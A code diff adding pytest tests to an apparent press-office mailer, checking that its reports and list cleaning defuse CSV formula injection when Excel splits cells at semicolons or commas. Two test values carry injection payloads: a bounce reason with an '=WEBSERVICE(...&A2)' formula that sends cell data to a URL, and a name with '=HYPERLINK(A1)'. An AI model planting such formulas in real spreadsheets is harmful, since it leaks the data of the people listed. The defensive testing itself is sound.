@@ -4,6 +4,7 @@ from __future__ import annotations
 
 from datetime import UTC, datetime
 from pathlib import Path
+from typing import Any
 
 import pytest
 from conftest import ROOT
@@ -193,3 +194,69 @@ def test_a_resumed_dry_run_replaces_links_in_its_campaign_folder(tmp_path: Path)
     transport.write_skipped("2026-02-19-bees", [Message("k", "=bo@x.org", "", {}, skip_reason="invalid")])
     assert victim.read_text(encoding="utf-8") == "ana's own file\n"
     assert not any((folder / name).is_symlink() for name in names)
+
+
+# -- 4. a formula after a semicolon ran in the spreadsheet of an office whose Excel splits there ----
+
+# Excel opens a .csv with the list separator of the computer's region: a semicolon in France,
+# Germany, Belgium, the Netherlands..., a comma in the English-speaking world. A comma file opened
+# there is cut at each semicolon that is not inside quotes (and a semicolon file, in English Excel,
+# at each comma), so what follows one became a cell of its own, and one starting with = a formula.
+# A bounce reason is the receiving mail server's own words: anyone who runs the mail server of an
+# address on the list writes them.
+REASON = "550 5.1.1 mailbox unknown;=WEBSERVICE(CHAR(104)&CHAR(116)&CHAR(116)&CHAR(112)&A2);"
+NAME = "Ana, =HYPERLINK(A1)"  # in a semicolon list, read by English Excel
+
+
+def cells_as_excel_reads(path: Path, separator: str) -> list[str]:
+    """Every cell of a CSV file as Excel with ``separator`` as the list separator reads it."""
+    import csv
+
+    with path.open(encoding="utf-8-sig", newline="") as handle:
+        return [cell for row in csv.reader(handle, delimiter=separator) for cell in row]
+
+
+def formulas(cells: list[str]) -> list[str]:
+    from mailer.spreadsheet import FORMULA_STARTS, LEADING_SPACES
+
+    return [cell for cell in cells if cell.lstrip(LEADING_SPACES).startswith(FORMULA_STARTS)]
+
+
+def test_a_bounce_reason_cannot_start_a_formula_after_a_semicolon_in_any_report(tmp_path: Path, standin: Any, db_url: str) -> None:
+    """The bounces and recipients reports of a comma office, opened by a colleague in Brussels or
+    Paris (Excel cutting at semicolons): the cell after the reason's ';' read
+    =WEBSERVICE(...&A2), which fetches a web address built from the sheet's cells, so the
+    journalist's address went to whoever wrote the reason. Quotes would not help (that Excel's cell
+    starts inside them): a formula sign after a comma or semicolon gets an apostrophe before it,
+    as one at a cell's start does, and every Excel reads text."""
+    from press_office import event, folder, import_events, keys
+
+    project = folder(tmp_path, standin, db_url)
+    sent = mailer("send", "releases/example.md", "--list", "lists/beat.csv", "--yes", "--no-test-ok")
+    assert sent.exit_code == 0, sent.output
+    (campaign, address), key = next(iter(keys(standin).items()))
+    bounce = event("bounce", address, campaign, key, 1_800_000_000, type="bounce", reason=REASON, status="5.1.1")
+    import_events(project / "events.json", [bounce])
+    for kind in ("bounces", "recipients"):
+        result = mailer("report", campaign, "--kind", kind, "-o", f"{kind}.csv")
+        assert result.exit_code == 0, result.output
+        for separator in (";", ","):
+            assert formulas(cells_as_excel_reads(project / f"{kind}.csv", separator)) == [], (kind, separator)
+        assert REASON.replace(";=", ";'=") in cells_as_excel_reads(project / f"{kind}.csv", ","), kind  # the office's own Excel
+
+
+def test_a_list_cell_cannot_start_a_formula_after_a_list_separator_in_lists_clean(project: Path) -> None:
+    """A semicolon list (a Paris media database's) cleaned, then opened by the English-speaking
+    colleague, cut at the name's comma: '=HYPERLINK(A1)' ran. The cleaned list and its rejected
+    rows write 'Ana,' =HYPERLINK(A1)', and mailer reads the cleaned list back as it was."""
+    (project / "lists" / "paris.csv").write_text(
+        f"Email;First Name;Outlet\nana@x.example;{NAME};Le Soir\nnot-an-address;{NAME};=1+1, =2+2\n", encoding="utf-8"
+    )
+    result = mailer("lists", "clean", "lists/paris.csv", "-o", "clean.csv", "--rejects", "rejects.csv")
+    assert result.exit_code == 0, result.output
+    for written in ("clean.csv", "rejects.csv"):
+        for separator in (";", ","):
+            assert formulas(cells_as_excel_reads(project / written, separator)) == [], (written, separator)
+    assert "Ana,' =HYPERLINK(A1)" in cells_as_excel_reads(project / "clean.csv", ";")
+    again = mailer("lists", "clean", "clean.csv", "-o", "again.csv")
+    assert again.exit_code == 0 and (project / "again.csv").read_bytes() == (project / "clean.csv").read_bytes(), again.output
